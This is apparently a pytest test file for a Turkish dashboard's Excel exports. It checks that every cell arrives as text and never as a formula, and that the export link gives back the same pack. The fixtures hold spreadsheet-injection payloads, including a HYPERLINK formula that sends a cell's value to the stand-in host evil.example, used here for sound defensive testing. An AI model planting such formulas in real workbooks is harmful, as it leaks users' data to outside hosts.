"""Every text cell of every workbook is text, never a live formula, whatever the plan file or the data
says; and the meeting pack's link is absolute and gives the same pack again.

The plan here is the hostile fixture with its title, organisation, level names and node titles
replaced by formulas (a HYPERLINK reading another cell, =1+1, +, -, @); its indicator and district
names in the warehouse already begin like formulas.
"""

from __future__ import annotations

import io
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import openpyxl
import pytest
import requests
from flask import Flask
from werkzeug.serving import make_server

from dashboard.context import AppContext
from dashboard.downloads import monitoring_xlsx
from dashboard.downloads.routes import register_export_routes
from gosterge.plan import Plan, load_plan
from tests.support.downloads import HOSTILE_TEXTS, ExportContext

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "plans"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A3;"Plan")'
REPLACEMENTS = (
    ('title_tr = "Güvenlik deneme planı ğüşıöçİĞÜŞÖÇ"', f"title_tr = '{HOSTILE_TITLE}'"),
    ('name_tr = "Eksen"', 'name_tr = "=1+1"'),
    ('name_tr = "Öncelik"', 'name_tr = "+SUM(1)"'),
    ('name_tr = "Hedef"', 'name_tr = "@A1"'),
    ('title_tr = "Güçlü Ekonomi"', 'title_tr = "=2+2"'),
    ('title_tr = "Nüfus ve hizmetler"', 'title_tr = "-3+3"'),
)
#: texts that must each arrive somewhere as a text cell
EXPECTED_TEXTS = (HOSTILE_TITLE, "=1+1", "=Karşıyaka", '=HYPERLINK("http://evil.example";"x")')


@pytest.fixture(scope="module")
def formula_plan(tmp_path_factory: pytest.TempPathFactory) -> Plan:
    text = (FIXTURES / "hostile.toml").read_text(encoding="utf-8")
    for old, new in REPLACEMENTS:
        assert old in text, old
        text = text.replace(old, new, 1)
    path = tmp_path_factory.mktemp("plans") / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return load_plan(path)


@pytest.fixture(scope="module")
def formula_server(export_context: ExportContext, formula_plan: Plan) -> Iterator[str]:
    """The export and monitoring routes with the formula plan in place of the stored hostile plan."""
    context = AppContext(
        export_context.settings, {**export_context.plans, "hostile": formula_plan}, export_context.reader
    )
    app = Flask("gosterge-workbook-text-test")
    register_export_routes(app, context)
    monitoring_xlsx.register_routes(app, context)
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join(timeout=5)


def workbook_at(server: str, path: str) -> openpyxl.Workbook:
    response = requests.get(server + path, timeout=60)
    assert response.status_code == 200, response.text
    return openpyxl.load_workbook(io.BytesIO(response.content))


def text_cells(workbook: openpyxl.Workbook) -> tuple[list[str], list[str]]:
    """Every text value of the workbook, and where a cell holds a formula."""
    texts, formulas = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts, formulas


@pytest.mark.parametrize(
    "path",
    [
        "/export.xlsx?plan=hostile",
        "/export.xlsx?plan=hostile&priority=1.2&region=kuzey",
        "/export.xlsx?plan=hostile&level=goals",
        "/export.xlsx?plan=hostile&level=measurements&district=2055",
        "/export.xlsx?plan=hostile&level=districts",
        "/export.xlsx?plan=hostile&level=rejected",  # hostile values: =HYPERLINK(…), +1, -cmd, @SUM(1)
        "/export.xlsx?plan=hostile&level=league&indicator=1.2.1.1",
        "/monitoring.xlsx?plan=hostile&year=2020",
    ],
)
def test_no_workbook_holds_a_formula(formula_server: str, path: str) -> None:
    texts, formulas = text_cells(workbook_at(formula_server, path))
    assert not formulas, formulas[:10]
    joined = "\n".join(texts)
    assert any(text in joined for text in EXPECTED_TEXTS), path  # the hostile texts are there, as text


def test_the_pack_summary_keeps_the_hostile_plan_texts(formula_server: str) -> None:
    summary = workbook_at(formula_server, "/export.xlsx?plan=hostile")["Özet"]
    assert summary["A1"].value == HOSTILE_TITLE and summary["A1"].data_type == "s"
    levels = {row[0] for row in summary.iter_rows(min_row=6, values_only=True)}
    assert "=1+1" in levels  # the level name, as text


def test_the_pack_link_is_absolute_and_gives_the_same_pack(formula_server: str) -> None:
    query = "/export.xlsx?plan=hostile&priority=1.2&district=1128&lang=en"
    first = workbook_at(formula_server, query)
    facts = {row[0].strip(): row[1] for row in first["Metadata"].iter_rows(min_row=2, values_only=True)}
    link = facts["Link"]
    assert urlparse(link).scheme == "http" and link.startswith(formula_server + "/export.xlsx?")
    assert "level=" not in link  # /export.xlsx without a level is the pack (with level=indicators it was not)
    again = workbook_at(link, "")
    assert again.sheetnames == first.sheetnames
    for name in first.sheetnames[:-1]:  # the metadata differs only by its generation time
        assert list(again[name].iter_rows(values_only=True)) == list(first[name].iter_rows(values_only=True)), name


def test_hostile_values_arrive_as_text(formula_server: str) -> None:
    """Rejected rows hold the values people typed into source files: each one a text cell, as typed."""
    texts, formulas = text_cells(workbook_at(formula_server, "/export.xlsx?plan=hostile&level=rejected"))
    assert not formulas
    typed = {text for text in HOSTILE_TEXTS if not text.startswith("\r")}  # a carriage return reads back as \n
    assert typed <= set(texts)
